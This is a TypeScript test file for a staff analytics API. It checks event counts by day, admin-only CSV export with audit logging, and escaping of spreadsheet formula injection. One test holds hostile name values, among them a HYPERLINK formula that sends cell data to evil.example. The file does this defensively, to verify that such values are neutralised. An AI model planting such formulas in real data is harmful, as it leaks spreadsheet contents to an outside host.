import type { Analytics } from '@lauda/contract/staff/staff-analytics';
import { sql } from 'kysely';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createDatabase } from '../../db/client.ts';
import { createTestApp, type TestApp } from '../../testing/app.ts';
import { HOSTILE_NAMES } from '../../testing/hostile/hostile-names.ts';
import { staffClient } from '../../testing/clients/staff.ts';
import { csvOf } from '@lauda/domain/csv';

let test: TestApp;
let staff: ReturnType<typeof staffClient>;
beforeEach(async () => {
  test = await createTestApp();
  staff = staffClient(test);
});
afterEach(() => test.close());

const count = (events: object[]) =>
  test.app.inject({ method: 'POST', url: '/api/events', payload: { events } });
const today = () => new Date().toISOString().slice(0, 10);

async function sumUp(day: string, name: string, properties: object, times: number): Promise<void> {
  const owner = createDatabase({ url: test.database.ownerUrl, maxConnections: 1, applicationName: 'test' });
  await sql`
    insert into analytics_day (day, name, properties, count)
    values (${`${day}T00:00:00Z`}, ${name}, ${JSON.stringify(properties)}, ${times})`.execute(owner.db);
  await owner.close();
}

/** Parses CSV as in RFC 4180. */
const readCsv = (text: string): string[][] => {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== ',') rows.push([]);
  }
  return rows.slice(0, -1);
};

describe('what was counted', () => {
  it('[ADM-09] is shown by event and day, each day from one place', async () => {
    const writer = await staff.staffOf('content_manager');
    await sumUp('2026-01-05', 'resume_downloaded', { format: 'pdf' }, 7);
    // The raw event still exists for ninety days and must not be counted again.
    await test.database.systemDb
      .insertInto('analytics_event')
      .values({
        hour: new Date('2026-01-05T09:00:00Z'),
        name: 'resume_downloaded',
        properties: JSON.stringify({ format: 'pdf' }),
      })
      .execute();
    await count([
      { name: 'resume_downloaded', properties: { format: 'pdf' } },
      { name: 'resume_downloaded', properties: { format: 'txt' } },
      { name: 'resume_created', properties: {} },
    ]);
    const now = await staff.dataOf<Analytics>(staff.call(writer, 'GET', '/analytics'));
    expect(now.to).toBe(today());
    expect(now.events.map(({ name, total }) => [name, total])).toEqual([
      ['resume_downloaded', 2],
      ['resume_created', 1],
    ]);
    expect(now.events[0]?.days).toHaveLength(30);
    expect(now.events[0]?.days.at(-1)).toEqual({ day: today(), count: 2 });
    const then = await staff.dataOf<Analytics>(
      staff.call(writer, 'GET', '/analytics?from=2026-01-05&to=2026-01-06'),
    );
    expect(then.events).toEqual([
      {
        name: 'resume_downloaded',
        total: 7,
        days: [
          { day: '2026-01-05', count: 7 },
          { day: '2026-01-06', count: 0 },
        ],
        parts: [{ properties: { format: 'pdf' }, count: 7 }],
      },
    ]);
    for (const bad of ['from=2026-01-06&to=2026-01-05', 'from=2020-01-01&to=2026-01-05', 'from=soon'])
      expect((await staff.call(writer, 'GET', `/analytics?${bad}`)).statusCode).toBe(400);
  });

  it('[ADM-09] is exported by administrators, and that is written down', async () => {
    const admin = await staff.staffOf('admin');
    await count([{ name: 'resume_downloaded', properties: { format: 'pdf' } }]);
    const answer = await staff.call(admin, 'GET', '/analytics/export?report=events');
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toMatch(
      /^attachment; filename="lauda-events-[\d-]+\.csv"$/,
    );
    expect(answer.body).toBe(
      `\uFEFF"day","event","properties","count","value_p75"\r\n"${today()}","resume_downloaded","format: pdf",1,\r\n`,
    );
    expect(await staff.actsOn(null)).toMatchObject([
      { act: 'analyticsExported', actor_id: admin.userId, details: { report: 'events', to: today() } },
    ]);
    for (const role of ['support', 'content_manager'])
      expect(
        (await staff.call(await staff.staffOf(role), 'GET', '/analytics/export?report=users')).statusCode,
      ).toBe(404);
  });

  it('[ADM-09] keeps hostile names as text, whole and in one cell each', async () => {
    const admin = await staff.staffOf('admin');
    await test.database.auth.db
      .insertInto('app_user')
      .values(HOSTILE_NAMES.map((name, index) => ({ email: `person-${index}@lauda.example`, name })))
      .execute();
    const { body } = await staff.call(admin, 'GET', '/analytics/export?report=users');
    const rows = readCsv(body.replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(2 + HOSTILE_NAMES.length);
    // By the rules of spreadsheet programs, not ours: no cell may start a formula, with or without leading spaces.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/);
    const names = rows.slice(1).map(([, , name]) => name);
    expect(names).toContain("'=1+1");
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(names).toContain('Zoë "the" Ávila, Reis; Lima');
    expect(names).toContain("Ana;'=8+8;");
    expect(names).toContain('first\nsecond');
    expect(names.map((name) => (name ?? '').replaceAll(/(^|[;\t\r\n])'/g, '$1')).toSorted()).toEqual(
      ['Ana Lima', ...HOSTILE_NAMES].toSorted(),
    );
  });

  it('takes away from no text but the start of a formula', () => {
    expect(csvOf(['name'], [['Ana'], ['A=B'], ['-1'], ['say "so"'], [-5], [null]])).toBe(
      '\uFEFF"name"\r\n"Ana"\r\n"A=B"\r\n"\'-1"\r\n"say ""so"""\r\n-5\r\n\r\n',
    );
  });
});
